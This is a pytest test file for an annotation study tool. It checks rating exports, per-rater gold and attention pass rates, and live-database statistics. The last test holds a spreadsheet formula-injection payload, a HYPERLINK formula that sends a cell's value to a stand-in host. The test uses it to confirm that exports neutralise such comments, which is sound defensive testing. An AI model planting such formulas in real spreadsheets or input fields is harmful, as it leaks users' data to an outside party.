"""Exporting ratings joined with the hidden labels, in the table `lalm-judge anchors stats` reads, the summary per
rater (check pass rates, time per item), and the statistics computed from a study's live database."""

from __future__ import annotations

import asyncio
import json

import polars as pl
import pytest

from lalm_judge.analysis.anchors import RATING_COLUMNS, validate_ratings
from lalm_judge.annotation.app import create_app, open_study
from lalm_judge.annotation.batch import RATINGS_DB, Batch, BatchError, load_labels
from lalm_judge.annotation.export import export_ratings, load_batch_ratings, rater_summary
from lalm_judge.annotation.store import Answer, RatingStore
from lalm_judge.cli import anchors as anchors_cli
from tests.annotation.conftest import consent, make_batch, running_server, write_synthetic_run
from tests.annotation.conftest import rate as rate_item


def label_answer(label, flip: bool = False) -> Answer:
    """The generated label as an answer (safe/unsafe flipped when asked)."""
    if bool(label.gt_unsafe) != flip:
        return Answer(True, label.gt_category or "hate", label.gt_severity or 2)
    return Answer(False)


def rate_like_the_labels(batch_dir, rater: str, flip: set[str] = frozenset()) -> None:
    """A rater who gives every item its generated label, except the safe/unsafe call of the items in `flip`."""
    study = open_study(batch_dir)
    study.register([rater])
    for label in load_labels(batch_dir)[1]:
        study.store.record(rater, label.item_id, "open")
        study.store.submit(rater, label.item_id, label_answer(label, flip=label.item_id in flip))


def test_export_joins_the_hidden_labels(batch):
    rate_like_the_labels(batch, "a")
    rate_like_the_labels(batch, "b", flip={"item_001"})
    ratings = export_ratings(batch)
    assert list(ratings.columns[: len(RATING_COLUMNS)]) == list(RATING_COLUMNS)
    validate_ratings(ratings)
    labels = {label.item_id: label for label in load_labels(batch)[1]}
    assert ratings.height == 2 * len(labels)
    for row in ratings.iter_rows(named=True):
        label = labels[row["item_id"]]
        assert row["sample_id"] == label.sample_id and row["gt_severity"] == label.gt_severity
        flipped = row["rater_id"] == "b" and row["item_id"] == "item_001"
        assert (row["unsafe"] == label.gt_unsafe) != flipped
        assert row["opened_at"] is not None and row["transcript_shown"] == 0 and row["n_submissions"] == 1
        assert row["role"] == "item" and row["check_passed"] is None
        assert row["started_at"] == row["opened_at"] and 0 <= row["time_s"] < 60


def test_export_needs_ratings(batch):
    with pytest.raises(BatchError, match="nobody has rated"):
        export_ratings(batch)
    RatingStore(batch / RATINGS_DB, Batch.load(batch).batch_id)
    assert anchors_cli.main(["export", str(batch), "--out", str(batch / "x.csv")]) == 2


def test_export_reports_gold_and_attention_pass_rates_per_rater(tmp_path, capsys):
    extras = {"practice": 1, "gold": 2, "attention": 2}
    directory = make_batch(write_synthetic_run(tmp_path / "run"), tmp_path / "batch", extras=extras)
    study = open_study(directory)
    study.register(["good", "sloppy"])
    labels = load_labels(directory)[1]
    attention = set(study.protocol.items_of("attention"))
    for rater in ("good", "sloppy"):
        study.store.record_consent(rater, True, study.protocol.sha256)
        for label in labels:
            if label.item_id in attention:
                expected = study.protocol.checks[label.item_id].expected
                answer = Answer(True, expected.category, expected.severity) if rater == "good" else Answer(False)
            else:
                answer = label_answer(label, flip=rater == "sloppy" and label.role == "gold")
            study.store.submit(rater, label.item_id, answer)
    out = tmp_path / "ratings.csv"
    assert anchors_cli.main(["export", str(directory), "--out", str(out)]) == 0
    err = capsys.readouterr().err
    assert "rater good: 16/16 items rated (consent accepted); gold 2/2 passed; attention 2/2 passed" in err
    assert "rater sloppy: 16/16 items rated (consent accepted); gold 0/2 passed; attention 0/2 passed" in err
    ratings = pl.read_csv(out)
    assert ratings["role"].value_counts().sort("role").rows() == [
        ("attention", 4),
        ("gold", 4),
        ("item", 24),
        ("practice", 2),
    ]
    raters = pl.read_csv(tmp_path / "ratings.raters.csv")
    assert raters.filter(pl.col("rater_id") == "good").row(0, named=True)["gold_pass_rate"] == 1.0
    assert raters["completed"].to_list() == [1, 1] and raters["practice_done"].to_list() == [1, 1]
    summary = rater_summary(study.store, study.protocol, load_batch_ratings(directory)[0])
    assert summary.filter(pl.col("rater_id") == "sloppy")["attention_pass_rate"].item() == 0.0
    # The statistics count only the counted items.
    stats = tmp_path / "anchors.json"
    assert anchors_cli.main(["stats", str(out), "--out", str(stats), "--bootstrap", "0"]) == 0
    assert "left out of the statistics: 4 attention, 4 gold, 2 practice" in capsys.readouterr().err
    assert json.loads(stats.read_text())["n_items"] == 12


def test_statistics_from_the_live_database_as_the_study_runs(tmp_path, capsys):
    """`anchors stats BATCH_DIR` reads the database the running app writes: with one rater (no overlap), two
    raters sharing three items (partial overlap) and both raters on every item (full), at 1000 resamples."""
    directory = make_batch(write_synthetic_run(tmp_path / "run"), tmp_path / "batch", n=16, n_unsafe=10)
    labels = {label.item_id: label for label in load_labels(directory)[1]}
    out = tmp_path / "anchors.json"

    def stats() -> dict:
        argv = ["stats", str(directory), "--out", str(out), "--bootstrap", "1000"]
        assert anchors_cli.main(argv) == 0
        printed = capsys.readouterr()
        assert "ratings in its live database" in printed.err and "| Safety TPR |" in printed.out
        return json.loads(out.read_text())

    def rate(url: str, items) -> None:
        for item_id in items:
            answer = label_answer(labels[item_id], flip=item_id == "item_003")
            body = {"unsafe": answer.unsafe}
            if answer.unsafe:
                body |= {"category": answer.category, "severity": answer.severity}
            assert rate_item(url, item_id, **body)[0] == 200

    with running_server(directory, "--raters", "a,b") as server:
        for rater in ("a", "b"):
            consent(server.url(rater))
        items = sorted(labels)
        rate(server.url("a"), items[:8])
        alone = stats()
        assert alone["alpha_safety"]["status"] == "not_estimable" and alone["alpha_safety"]["n"] == 0
        assert alone["tpr"]["status"] == "ok" and alone["n_items"] == 8
        rate(server.url("b"), items[5:11])
        partial = stats()
        assert partial["alpha_safety"]["n"] == 3 and 0 < partial["alpha_safety"]["bootstrap_unsupported"] < 1000
        rate(server.url("a"), items[8:])
        rate(server.url("b"), items[:5] + items[11:])
        full = stats()
        assert full["alpha_safety"]["n"] == 16 and full["alpha_safety"]["bootstrap_unsupported"] == 0
        assert full["safety_kappa"]["per_rater"]["b"]["n"] == 16


def asgi_get(app, path: str) -> tuple[int, bytes]:
    """One GET request through the app's ASGI interface (its middleware, authentication and route), no socket."""
    sent: list[dict] = []

    async def receive() -> dict:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "method": "GET",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "headers": [],
        "scheme": "http",
        "server": ("127.0.0.1", 80),
        "client": ("127.0.0.1", 1),
        "root_path": "",
        "http_version": "1.1",
    }
    asyncio.run(app(scope, receive, send))
    status = next(m["status"] for m in sent if m["type"] == "http.response.start")
    return status, b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")


FORMULA = '=HYPERLINK("http://x.example/?"&B2,"more")'


def test_a_formula_in_a_raters_comment_is_written_as_text_in_both_exports(batch, tmp_path):
    """A rater (perhaps an outside crowd worker) writes a formula as their comment: `anchors export` and the owner's
    `export.csv` of the running app write it with a `'` in front, so the spreadsheet beside the hidden labels shows
    it and never runs it."""
    study = open_study(batch)
    study.register(["-crowd"])
    labels = load_labels(batch)[1]
    for label in labels[:2]:
        answer = label_answer(label)
        study.store.submit(
            "-crowd", label.item_id, Answer(answer.unsafe, answer.category, answer.severity, comment=FORMULA)
        )
    out = tmp_path / "ratings.csv"
    assert anchors_cli.main(["export", str(batch), "--out", str(out)]) == 0
    from_cli = pl.read_csv(out, schema_overrides={"rater_id": pl.String})
    assert from_cli["comment"].to_list() == ["'" + FORMULA] * 2 and from_cli["rater_id"].to_list() == ["'-crowd"] * 2
    assert pl.read_csv(tmp_path / "ratings.raters.csv")["rater_id"].to_list() == ["'-crowd"]
    status, download = asgi_get(create_app(study), f"/owner/{study.store.owner_token()}/export.csv")
    assert status == 200 and download == out.read_bytes(), "the app's download is the command's table"
    assert b"'=HYPERLINK(" in download
